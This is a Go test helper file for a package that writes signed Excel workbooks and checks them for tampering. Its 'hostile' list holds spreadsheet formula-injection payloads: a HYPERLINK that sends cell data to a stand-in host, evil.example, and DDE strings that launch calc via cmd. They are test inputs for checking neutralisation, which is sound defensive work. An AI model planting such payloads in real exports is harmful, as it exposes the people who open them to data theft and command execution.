package evidence

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"errors"
	"os"
	"path/filepath"
	"strconv"
	"testing"
	"time"
)

// testKey is a fixed signing key for tests.
func testKey(t testing.TB, seed byte) ed25519.PrivateKey {
	t.Helper()
	return ed25519.NewKeyFromSeed(bytes.Repeat([]byte{seed}, ed25519.SeedSize))
}

var testTime = time.Date(2026, 11, 30, 9, 15, 30, 123456000, time.UTC)

// hostile are display names that would run as formulas if not neutralised.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
}

// writeSample writes a small two-sheet workbook signed with key to a file
// and returns its path.
func writeSample(t testing.TB, key ed25519.PrivateKey, edit func(rows [][]any)) string {
	t.Helper()
	rows := [][]any{
		{"p-1", "Ada Lovelace", 3, testTime, 0.1 + 0.2},
		{"p-2", hostile[0], 0, testTime.Add(36 * time.Hour), 1e-7},
		{"p-3", hostile[1], -12, nil, 123456789.125},
		{"p-4", hostile[2], 1 << 40, testTime.Add(-time.Second), 2.5},
		{"p-5", hostile[3] + "\nsecond line", 7, testTime.Add(time.Minute), nil},
		{"p-6", "  spaces and _x0041_ and tab\tinside ", 8, testTime, 0.0},
	}
	if edit != nil {
		edit(rows)
	}
	w, err := NewWriter()
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	s, err := w.NewSheet("People", []Column{
		{Name: "Person id"}, {Name: "Display name"}, {Name: "Count", Kind: Number},
		{Name: "Seen at", Kind: Time}, {Name: "Score", Kind: Number},
	}, SheetOptions{ExpectedRows: len(rows)})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if err := s.Row(r...); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	s, err = w.NewSheet("Notes", []Column{{Name: "Note"}}, SheetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Row("nothing else"); err != nil {
		t.Fatal(err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := w.Finish(&buf, Meta{Title: "test", GeneratedAt: testTime, Generator: "syncd test", ChainHead: ChainHead{Seq: 42, Hash: "ab12"}}, key); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "sample.xlsx")
	if err := os.WriteFile(path, buf.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

func verifyFile(t testing.TB, path string, opts VerifyOptions) (Report, error) {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	st, err := f.Stat()
	if err != nil {
		t.Fatal(err)
	}
	return Verify(context.Background(), f, st.Size(), opts)
}

// wantTamper fails unless err is a *TamperError naming sheet (and rows
// first..last when first > 0).
func wantTamper(t *testing.T, err error, sheet string, first, last int) {
	t.Helper()
	var te *TamperError
	if !errors.As(err, &te) {
		t.Fatalf("verify: got %v, want a TamperError on %q", err, sheet)
	}
	if te.Sheet != sheet || (first > 0 && (te.FirstRow != first || te.LastRow != last)) {
		t.Fatalf("verify: got %v, want sheet %q rows %d-%d", te, sheet, first, last)
	}
}

func copyFile(t testing.TB, from, to string) {
	t.Helper()
	b, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(to, b, 0o600); err != nil {
		t.Fatal(err)
	}
}

func fmtInt(n int64) string { return strconv.FormatInt(n, 10) }
